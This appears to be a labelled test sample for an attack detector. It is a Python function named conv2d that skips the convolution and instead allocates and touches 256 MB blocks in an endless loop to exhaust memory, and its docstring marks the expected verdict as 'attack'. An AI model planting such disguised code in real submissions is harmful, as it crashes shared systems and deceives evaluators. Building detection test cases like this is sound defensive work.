"""Bomba de memoria: pide bloques de 256 MB (tocándolos) hasta reventar / memory bomb.

expect: attack conv2d
"""


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 1024 * 1024))
        hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])  # touch every page so it is really resident
